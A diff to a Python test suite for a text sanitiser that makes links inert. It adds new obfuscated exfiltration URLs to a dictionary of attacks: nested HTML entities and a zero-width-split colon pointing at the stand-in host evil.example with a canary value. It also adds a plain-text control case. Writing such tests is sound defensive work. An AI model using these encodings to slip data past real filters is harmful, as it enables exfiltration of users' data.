@@ -43,6 +43,8 @@ ATTACKS = {
     "ideographic full stop": f"https://evil。example/{CANARY}",
     "entity": f"https&#58;//evil.example/{CANARY}",
     "entity of an entity": f"https&amp;#58;//evil.example/{CANARY}",
+    "entity, deep": f"https&{'amp;' * 9}#58;//evil.example/{CANARY}",
+    "entity, parted": f"https&\u200b#58;//evil.example/{CANARY}",
     "entity by name": f"https&colon;&sol;&sol;evil.example/{CANARY}",
     "escaped": f"https\\://evil.example/{CANARY}",
     "HTML image": f'<img src="https://evil.example/{CANARY}">',
@@ -116,11 +118,12 @@ def test_whatever_is_put_together_stays_inert(text: str) -> None:
         "कर्मचारियों को 12.5 दिन मिलते हैं।",
         "می‌خواهم [1] 👩‍👩‍👧 ❤️",
         "if a < b and c > d: x = y[0] & z",
+        "R&D; AT&T & others",
     ],
 )
 def test_plain_text_stays_as_it_is(text: str) -> None:
     inert = neutralise(text, SOURCES)
-    assert inert.text.replace("＆", "&") == text
+    assert inert.text == text
     assert (inert.removed, inert.foreign) == (0, 0)
 
 
